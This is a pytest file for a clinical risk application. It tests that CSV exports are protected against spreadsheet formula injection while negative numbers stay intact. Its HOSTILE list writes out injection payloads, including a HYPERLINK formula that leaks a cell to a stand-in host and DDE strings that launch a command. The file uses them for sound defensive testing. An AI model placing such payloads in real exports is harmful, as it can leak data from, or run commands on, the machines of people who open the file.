"""CSV exports cannot run as spreadsheet formulas; numbers keep their form (OWASP CSV injection)."""

from __future__ import annotations

import ast
import csv
import io
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from data.synthetic.example_cohort import write_example_cohort
from fusion.admin.access import Identity
from fusion.cli import main
from fusion.evaluation.fairness import audit
from fusion.reports.audit_report import audit_csv
from fusion.reports.exports import FORMULA_TRIGGERS, neutralise_cell, neutralise_formulas, safe_csv
from fusion.service.facade import RiskService

ROOT = Path(__file__).resolve().parents[3]
HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\uff1d1+1",
]


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def _assert_inert(cells: list[str]) -> None:
    """No cell would be evaluated: risky text starts with ', plain numbers are left alone."""
    for cell in cells:
        if cell and cell.lstrip(" ")[:1] in FORMULA_TRIGGERS:
            float(cell)  # only a plain number may start with + or -


@pytest.mark.parametrize("value", HOSTILE)
def test_a_formula_cell_is_written_as_text(value: str) -> None:
    assert neutralise_cell(value) == "'" + value
    _assert_inert(_cells(safe_csv(pd.DataFrame({"value": [value]}))))


def test_a_carriage_return_inside_a_cell_cannot_start_a_new_row() -> None:
    text = safe_csv(pd.DataFrame({"note": ["ok\r=HYPERLINK(1)", "fine"], "n": [1, 2]}))
    assert list(csv.reader(io.StringIO(text, newline=""))) == [
        ["note", "n"],
        ["ok\r=HYPERLINK(1)", "1"],
        ["fine", "2"],
    ]
    assert '"ok\r=HYPERLINK(1)"' in text  # quoted: a spreadsheet keeps it in one cell


@pytest.mark.parametrize("value", ["-3", "-3.25", "+4", "-1e-05", ".5", "north", "a=b", "x-1"])
def test_plain_text_and_numbers_are_left_alone(value: str) -> None:
    assert neutralise_cell(value) == value


def test_numeric_columns_and_negative_numbers_are_never_changed() -> None:
    frame = pd.DataFrame(
        {
            "delta": [-0.25, 0.5],
            "n": [-3, 4],
            "mixed": pd.array([-0.125, "=1+1"], dtype=object),
            "flag": [True, False],
            "=label": ["-5", "@x"],
        },
        index=pd.Index(["=idx", "plain"], name="model"),
    )
    out = neutralise_formulas(frame, index=True)
    assert out["delta"].tolist() == [-0.25, 0.5]
    assert out["delta"].dtype == np.float64
    assert out["n"].tolist() == [-3, 4]
    assert out["mixed"].tolist() == [-0.125, "'=1+1"]
    assert out["flag"].tolist() == [True, False]
    assert out["'=label"].tolist() == ["-5", "'@x"]
    assert out.index.tolist() == ["'=idx", "plain"]
    assert frame["mixed"].iloc[1] == "=1+1"  # the input is not modified
    text = safe_csv(frame, index=True, index_label="model")
    assert "-0.25" in text
    assert ",-3," in text
    _assert_inert(_cells(text))


def test_bias_audit_csv_neutralises_imported_group_names() -> None:
    rng = np.random.default_rng(0)
    n = 120
    sites = np.array([HOSTILE[0], HOSTILE[2], "site_c"])[np.arange(n) % 3]
    y = rng.integers(0, 2, n)
    risk = np.clip(0.5 * y + rng.normal(0.25, 0.2, n), 0, 1)
    report = audit(
        y, risk, pd.DataFrame({"site": sites}), threshold=0.5, n_resamples=20, min_cell=11
    )
    text = audit_csv(report)
    cells = _cells(text)
    assert "'" + HOSTILE[0] in cells
    assert "'" + HOSTILE[2] in cells
    assert any(cell.startswith("-0.") for cell in cells)  # negative differences stay numbers
    _assert_inert(cells)


def test_problems_csv_of_an_import_neutralises_imported_values(tmp_path: Path, monkeypatch) -> None:
    monkeypatch.setenv("RISKFUSION_HOME", str(tmp_path / "home"))
    monkeypatch.delenv("RISKFUSION_DATABASE_URL", raising=False)
    cohort = tmp_path / "cohort"
    write_example_cohort(cohort, n_patients=12)
    patients = pd.read_csv(cohort / "patients.csv", dtype=str, keep_default_na=False)
    patients.loc[0, "sex"] = HOSTILE[0]
    patients.loc[1, "age"] = HOSTILE[2]
    patients.loc[2, "age"] = "-5"  # out of range: reported as the number it is
    patients.loc[3, "site"] = HOSTILE[3]
    patients.loc[4, "ethnicity"] = HOSTILE[1]
    patients.to_csv(cohort / "patients.csv", index=False)
    report = tmp_path / "problems.csv"
    main(["import", str(cohort), "--dry-run", "--report", str(report)])
    cells = _cells(report.read_text(encoding="utf-8"))
    for value in (HOSTILE[0], HOSTILE[2], HOSTILE[3], HOSTILE[1]):
        assert "'" + value in cells, value
    assert "-5" in cells
    _assert_inert(cells)


def test_audit_trail_csv_neutralises_actor_and_detail(tiny_service: RiskService) -> None:
    hostile = Identity(user=HOSTILE[0], role="admin", source="oidc")
    tiny_service.record_event(hostile, "export", detail={"page": "x"})
    cells = _cells(tiny_service.audit_trail_csv(action="export"))
    assert "'" + HOSTILE[0] in cells
    _assert_inert(cells)


def test_exported_predictions_neutralise_imported_text(home_env, tmp_path, monkeypatch) -> None:
    original = RiskService.iter_predictions

    def hostile_chunks(self, **kwargs):
        for chunk in original(self, **kwargs):
            chunk = chunk.copy()
            chunk["site"] = HOSTILE[3]
            chunk["ethnicity"] = HOSTILE[1]
            yield chunk

    monkeypatch.setattr(RiskService, "iter_predictions", hostile_chunks)
    out = tmp_path / "predictions.csv"
    assert main(["export", "predictions", "--out", str(out)]) == 0
    rows = list(csv.DictReader(out.open(encoding="utf-8")))
    assert {row["site"] for row in rows} == {"'" + HOSTILE[3]}
    assert {row["ethnicity"] for row in rows} == {"'" + HOSTILE[1]}
    assert all(0.0 <= float(row["risk"]) <= 1.0 for row in rows)
    _assert_inert([cell for row in rows for cell in row.values()])


# Writing a table as CSV anywhere in the app must go through fusion.reports.exports.
CSV_WRITE_ALLOWED = {
    "fusion/reports/exports.py",  # the neutralising writer itself
    "fusion/training/training_data.py",  # a digest of the scores, never a file anyone opens
}


def test_every_csv_export_goes_through_the_neutraliser() -> None:
    offenders = []
    for path in sorted([*ROOT.glob("fusion/**/*.py"), *ROOT.glob("dashboard/**/*.py")]):
        relative = path.relative_to(ROOT).as_posix()
        if relative in CSV_WRITE_ALLOWED:
            continue
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if (
                isinstance(node, ast.Call)
                and isinstance(node.func, ast.Attribute)
                and node.func.attr == "to_csv"
            ):
                offenders.append(f"{relative}:{node.lineno}")
    assert not offenders, (
        f"CSV written without fusion.reports.exports (safe_csv, write_safe_csv): {offenders}"
    )
